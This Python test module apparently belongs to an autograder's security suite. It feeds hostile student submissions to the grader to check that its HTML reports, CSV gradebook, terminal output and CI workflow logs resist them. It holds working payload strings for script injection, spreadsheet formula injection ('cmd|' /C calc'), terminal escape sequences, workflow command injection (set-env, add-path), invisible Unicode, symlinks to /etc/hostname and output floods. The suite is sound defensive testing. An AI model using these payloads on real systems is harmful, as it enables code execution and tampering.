"""Rows 24 to 27: attacks by text and pictures that people and programs read.

Pages are opened in a browser, the gradebook by a spreadsheet's rules, and what the command prints is read as a terminal
and a workflow's runner read it. What comes with the names of hand-ins is in `test_rendering`.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Final

from tests.attacks.attack import Attack, Build
from tests.attacks.channel import FIND
from tests.attacks.exits import ONCE
from tests.attacks.shown import (
    EXPRESSION,
    OWNED,
    Printed,
    junit_faults,
    page_faults,
    page_text,
    summary_faults,
    table_faults,
    terminal_faults,
    workflow_faults,
)

_LARGEST: Final = 400_000  # bytes of a file of results; an honest report has a quarter of that
_LARGEST_ROW: Final = 4_000  # bytes of a submission in the index; an honest one has a quarter of that
_NOT_REACHED: Final = "it did not get as far as this"

SHORT: Final = "<script>document.title='owned'</script><img src=http://owned.invalid/a onerror=document.title='owned'>"
HTML: Final = (
    f"'\"></title></style></pre></textarea></summary></script><!-- -->{SHORT}"
    "<script src=http://owned.invalid/b></script><svg/onload=document.title='owned'>"
    "<iframe srcdoc='<script>top.document.title=0</script>'></iframe><base href=http://owned.invalid/>"
    "<meta http-equiv=refresh content='0;url=http://owned.invalid/c'><link rel=stylesheet href=http://owned.invalid/d>"
    "<details open ontoggle=document.title='owned'>x</details><b id=owned>owned</b>"
    "<a href=javascript:document.title='owned'>owned</a><form action=http://owned.invalid/e><input autofocus></form>"
    f"{EXPRESSION}{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}"
    "&lt;script&gt;owned&lt;/script&gt;\u202eowned\u2066"
)
UNSEEN: Final = "".join(
    f"{character}{OWNED}"
    for character in (
        *("\u200b", "\u200d", "\u2060", "\u00ad", "\ufeff", "\u061c", "\u2066", "\u206a", "\U000e0041", "\U000e007f"),
        *("\ue000", "\U000f0000", "\ufe00", "\ufe0f", "\U000e0100", "\u034f", "\u180b", "\u17b4", "\u3164", "\u115f"),
        *("\u1160", "\uffa0", "\u2800", "\ufdd0", "a" + "\u0336" * 300, "b" + "\u0489" * 40, "c" + "\u20dd" * 40),
    )
)
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '",=1+1,"',
    "owned;=1+1",
    '=HYPERLINK("http:owned.invalid?"&A1,"owned")',
)
ESCAPES: Final = "".join(
    f"{sequence}{OWNED}"
    for sequence in (
        "\x1b[31m",
        "\x1b[2J\x1b[H",
        "\x1b[?1049h",
        "\x1b[8m",
        "\x1b]0;title\x07",
        "\x1b]8;;http://owned.invalid\x1b\\",
        "\x1b]52;c;b3duZWQ=\x07",
        "\x1bP$q\x1b\\",
        "\x1b[6n",
        "\x1bc",
        "\x9b31m",
        "\x9d0;title\x9c",
        "\r",
        "\b\b\b\b",
        "\x07\x0e\x05\x7f",
        "\u202e\u2067",
        "\x1b\x1b[[31m",
        "\x1b[\x1b[31m31m",
        "[bold red on white][link=http://owned.invalid]",
    )
)
COMMANDS: Final = (
    "::error title=owned::owned\n::error title=owned::owned\r::stop-commands::owned\r\n   ::add-mask::a\n"
    "##[add-path]owned\n\u2028::debug::owned\u0085::group::owned\x0b::notice::owned\x0c::warning title=owned::owned\n"
    "::set-env name=PATH::owned%0A::set-output name=owned::owned%0D::error title=owned::owned"
    "\n#\x00#[add-path]owned #\u202e#[add-path]owned \x00##[group]owned #\x1b[m#[add-mask]owned"
)
MARKDOWN: Final = (
    "</summary></details><script>owned</script>\n\n# owned\n\n[owned](http://owned.invalid) <http://owned.invalid>"
    " ![owned](http://owned.invalid/x) `|` | owned | <img src=http://owned.invalid/y> &lt;b&gt; ~~owned~~ **owned**"
    " _owned_\n```\n---\n> owned\n1. owned\n- [ ] owned\n[owned]: http://owned.invalid\n<!-- owned -->"
)


def _rendered(*reached: str) -> Callable[[Path, Printed], str]:
    """Return a look that reads everything that shows a submission, and requires its words in the named outputs."""

    def look(results: Path, printed: Printed) -> str:
        faults = [f"{page.name}: {fault}" for page in _pages(results) for fault in page_faults(page)]
        faults += [fault for table in results.parent.rglob("*.csv") for fault in table_faults(table)]
        faults += junit_faults(printed.junit) + summary_faults(printed.summary)
        faults += terminal_faults(printed.terminal) + workflow_faults(printed.log)
        faults += [f"{file.name} has {file.stat().st_size:,} bytes" for file in _grown(results)]
        if len(printed.log) + len(printed.summary) + len(printed.terminal) > _LARGEST:
            faults.append("much was printed")
        texts = {"report": page_text(results / "report.html"), "log": printed.log, "summary": printed.summary}
        faults += [f"{_NOT_REACHED}: {name}" for name, text in texts.items() if name in reached and OWNED not in text]
        return "; ".join(faults[:6])

    return look


def _pages(results: Path) -> tuple[Path, Path]:
    return results / "report.html", results.parent / "index.html"


def _grown(results: Path) -> list[Path]:
    """Return files that are larger than honest ones; evidence has a limit of its own."""
    largest = {file: _LARGEST for file in results.rglob("*") if file.is_file() and file.suffix != ".evidence"}
    largest[results.parent / "index.html"] = _LARGEST + _LARGEST_ROW * len(list(results.parent.glob("*/report.html")))
    return [file for file, most in largest.items() if file.stat().st_size > most]


_EVERYWHERE: Final = _rendered("report", "log", "summary")
_REPORTED: Final = _rendered("report")


def _raising(words: str) -> str:
    return f"raise ValueError({words!r})"


def _caught(words: str) -> str:
    """Return the honest counterpart: code that catches such an exception."""
    return f"try:\n    raise ValueError({words!r})\nexcept ValueError:\n    print('caught')"


def _named(words: str) -> str:
    """Return code that raises an exception whose class, function, file and line contain these words."""
    return f"""
import linecache, os
words = {words!r}
file = os.path.join(os.path.dirname(os.path.abspath(__file__)), words + ".py")
source = f"def raised(): raise fault  # {{words!r}}"
linecache.cache[file] = (1, None, [source], file)
fault = type(words, (ValueError,), {{}})(words)
scope = {{"fault": fault}}
exec(compile(source, file, "exec"), scope)
scope["raised"].__code__ = scope["raised"].__code__.replace(co_name=words, co_qualname=words)
scope["raised"]()
"""


def _told(words: str) -> str:
    """Return code that reports a made-up exception with these words in every text."""
    return f"""{FIND}
from gengrade.sandbox import wire
words = {words!r}
frame = {{"file": words, "line": 1, "function": words, "source": words}}
fault = {{"outcome": "error", "type": words, "message": words, "hint": words, "frames": [frame] * 20}}
send(frame_of(wire.encode(fault), b"F"))
os._exit(0)
"""


def _answering(words: str) -> str:
    """Return code that sends forged evidence with these words, which a report may quote."""
    return f"""{FIND}
from gengrade.sandbox import wire
words = {words!r}
send(frame_of(wire.encode({{words: words, words + "2": [words]}})))
os._exit(0)
"""


def _printing(words: str) -> str:
    return f"""
import sys
for stream in (sys.stdout, sys.stderr):
    stream.write({words!r})
    stream.flush()
raise ValueError("owned")
"""


_HONEST_TELLER: Final = f"{FIND}\nfrom gengrade.sandbox import wire\nwire.encode({{'message': 'words'}})"
_HONEST_NAMES: Final = "import linecache\nlinecache.getline(__file__, 1)\ntype('Größe <x>', (ValueError,), {})('= 3')"


def _in_folders(*names: str, links: tuple[str, ...] = ()) -> Build:
    """Put the answers deep into folders of these names, with a second copy and with links."""

    def build(folder: Path) -> None:
        inside = folder.joinpath(*names)
        inside.mkdir(parents=True)
        content = (folder / "answers.py").read_bytes()
        (folder / "answers.py").unlink()
        (inside / "answers.py").write_bytes(content)
        rival = inside / "zz copy" / (links[0] if links else "b")
        rival.mkdir(parents=True)
        (rival / "answers.py").write_bytes(content)
        for name in links:
            os.symlink("/etc/hostname", inside / name)

    return build


def _many_links(folder: Path) -> None:
    for number in range(4000):
        os.symlink("nowhere", folder / f"owned-{number}-{'x' * 200}")


def _with_pictures(content: str) -> Build:
    """Hand in pictures and pages with the names of the harness's own."""

    def build(folder: Path) -> None:
        for place in ("figures", "part1/figures", "results"):
            (folder / place).mkdir(parents=True, exist_ok=True)
            for name in ("theory.cubic_density-0.png", "theory.cubic_density-0.svg", "report.html", "index.html"):
                (folder / place / name).write_text(content)

    return build


_DRAWN: Final = """
import os, shutil
import matplotlib.pyplot as plt
words = {words!r}
figure = plt.figure(num=words[:50])
plt.title(words[:200])
figure.text(0, 0, "owned", url="javascript:document.title='owned'")
plt.savefig("figure.svg", metadata={{"Title": words}})
for folder in ("@OUT@", "@OUT@/24-titles-of-figures", "@OUT@/24-titles-of-figures/figures", os.path.dirname(__file__)):
    for name in ("theory.cubic_density-0.png", "theory.cubic_density-0.svg", "report.html", "index.html"):
        try:
            shutil.copy("figure.svg", os.path.join(folder, name))
        except OSError:
            pass
"""

_PAGES = [
    Attack(24, "a page in the words of a fault", _raising(HTML), _caught(HTML), look_shown=_EVERYWHERE),
    Attack(24, "a page in the names of a fault", _named(SHORT), _HONEST_NAMES, look_shown=_EVERYWHERE),
    Attack(24, "a page in a fault told", _told(HTML), _HONEST_TELLER, look_shown=_EVERYWHERE),
    Attack(24, "a page printed", _printing(HTML), f"print({HTML!r})", look_shown=_EVERYWHERE),
    Attack(
        24,
        "a page as an answer",
        f"return {HTML!r}",
        f"str({HTML!r})",
        look_shown=_EVERYWHERE,
    ),
    Attack(
        24,
        "a page in an answer told",
        _answering("<b id=owned>owned<svg onload=alert()>"),
        _HONEST_TELLER,
        look_shown=_REPORTED,
    ),
    Attack(
        24,
        "a page in names of folders",
        _raising("owned"),
        "''.upper()",
        pack=_in_folders(
            "<img src=x onerror=document.title='owned'>",
            "<script>document.title='owned'<",
            f"script><b id=owned>owned{EXPRESSION}",
            links=("<svg onload=document.title='owned'>", "\u202e<b id=owned>"),
        ),
        control_pack=_in_folders("My answers (é, <3 & more)", "so far", links=("a link",)),
        look_shown=_EVERYWHERE,
    ),
    Attack(
        24,
        "titles of figures",
        _DRAWN.format(words=HTML) + _raising(OWNED),
        _DRAWN.format(words="A figure"),
        pack=_with_pictures(f"<svg xmlns='http://www.w3.org/2000/svg'><title>{HTML}</title></svg>"),
        control_pack=_with_pictures("<svg xmlns='http://www.w3.org/2000/svg'/>"),
        look_shown=_EVERYWHERE,
        why="no figure of a student's is shown: the host draws its own, of numbers",
    ),
]

_TABLES = [
    Attack(25, "formulas in words", _raising("\n".join(FORMULAS)), _caught("=1+1"), look_shown=_EVERYWHERE),
    Attack(25, "formulas told", _told("=cmd|'owned'!A0\n=1+1"), _HONEST_TELLER, look_shown=_EVERYWHERE),
    Attack(
        25,
        "formulas in names of folders",
        _raising("=owned"),
        "1+1",
        pack=_in_folders("=cmd|' C calc'!A0", "+1+1", "@SUM(1+1)", links=FORMULAS[4:]),
        control_pack=_in_folders("1 = 1", "+", links=("=",)),
        look_shown=_EVERYWHERE,
    ),
]

_LOGS = [
    Attack(26, "escapes in words", _raising(ESCAPES), _caught(ESCAPES), look_shown=_EVERYWHERE),
    Attack(26, "escapes in names", _named(ESCAPES), _HONEST_NAMES, look_shown=_EVERYWHERE),
    Attack(26, "escapes printed", _printing(ESCAPES), f"print({ESCAPES!r})", look_shown=_EVERYWHERE),
    Attack(26, "unseen characters in words", _raising(UNSEEN), _caught(UNSEEN), look_shown=_EVERYWHERE),
    Attack(26, "unseen characters in names", _named(UNSEEN), _HONEST_NAMES, look_shown=_EVERYWHERE),
    Attack(26, "unseen characters printed", _printing(UNSEEN), f"print({UNSEEN!r})", look_shown=_EVERYWHERE),
    Attack(26, "unseen characters told", _told(UNSEEN), _HONEST_TELLER, look_shown=_EVERYWHERE),
    Attack(
        26,
        "unseen characters in names of folders",
        _raising(OWNED),
        "''.strip()",
        pack=_in_folders("ow\u200bned", "\U000e0041owned\ue000", "o" + "\u0336" * 60, links=("\u00ad\u3164owned",)),
        control_pack=_in_folders(
            "\u00e9 e\u0301", "\u0639\u0644\u06cc\u200c\u0631\u0636\u0627", links=("\u0915\u094d\u0937",)
        ),
        look_shown=_EVERYWHERE,
    ),
    Attack(26, "commands in words", _raising(COMMANDS), _caught(COMMANDS), look_shown=_EVERYWHERE),
    Attack(26, "commands told", _told(COMMANDS), _HONEST_TELLER, look_shown=_EVERYWHERE),
    Attack(26, "commands printed", _printing(COMMANDS), f"print({COMMANDS!r})", look_shown=_EVERYWHERE),
    Attack(
        26,
        "commands in names of folders",
        _raising(OWNED),
        "''.lower()",
        pack=_in_folders(
            "::error title=owned::owned",
            "\n::stop-commands::owned",
            "##[add-mask]a",
            "\x1b[31mowned\x1b]0;owned\x07",
            links=("\r::add-path::owned", "##[group]owned"),
        ),
        control_pack=_in_folders("a: b", "[c]", links=("# d",)),
        look_shown=_EVERYWHERE,
    ),
    Attack(26, "markup in a summary", _raising(MARKDOWN), _caught(MARKDOWN), look_shown=_EVERYWHERE),
    Attack(26, "markup told", _told(MARKDOWN), _HONEST_TELLER, look_shown=_EVERYWHERE),
]

_FLOODS = [
    Attack(
        27,
        "flood of lines",
        """
        import sys
        for _ in range(30_000):
            print("owned" * 10)
            print("owned" * 10, file=sys.stderr)
        raise ValueError("owned")
        """,
        """
        for _ in range(20_000):
            print("a line of an honest program")
        """,
        target=ONCE,  # the density is asked for again, number by number, where it fails
        look_shown=_EVERYWHERE,
    ),
    Attack(
        27,
        "flood without an end",
        """
        import os
        while True:
            os.write(1, b"owned" * 13_000)
        """,
        """
        import os
        os.write(1, b"a line" * 13_000)
        """,
        look_shown=_REPORTED,
    ),
    Attack(
        27,
        "flood without line ends",
        """
        print("<b>\\x1b[31m\\0owned" * 500_000, end="", flush=True)
        raise ValueError("owned")
        """,
        """
        print("." * 500_000, end="")
        """,
        target=ONCE,
        look_shown=_EVERYWHERE,
    ),
    Attack(
        27,
        "flood of words",
        'raise ValueError("owned <b>" * 3_000_000)',
        _caught("x" * 1000),
        look_shown=_EVERYWHERE,
    ),
    Attack(
        27,
        "flood of frames",
        """
        import sys
        sys.setrecursionlimit(20_000)
        def owned_(n):
            if n == 0:
                raise ValueError("owned" * 100_000)
            owned_(n - 1)
        owned_.__code__ = owned_.__code__.replace(co_name="owned" * 20_000)
        owned_(5000)
        """,
        """
        def deep(n):
            return n and deep(n - 1)
        deep(300)
        """,
        look_shown=_EVERYWHERE,
    ),
    Attack(
        27,
        "flood told",
        f"""{FIND}
from gengrade.sandbox import wire
words = "owned" * 5_000
frame = {{"file": words, "line": 1, "function": words, "source": words}}
fault = {{"outcome": "error", "type": words, "message": words, "hint": words, "frames": [frame] * 30}}
send(frame_of(wire.encode(fault), b"F"))
os._exit(0)
""",
        _HONEST_TELLER,
        look_shown=_EVERYWHERE,
    ),
    Attack(
        27,
        "flood of names",
        _raising(OWNED),
        "[]",
        pack=_many_links,
        look_shown=_EVERYWHERE,
    ),
]

ATTACKS = [*_PAGES, *_TABLES, *_LOGS, *_FLOODS]
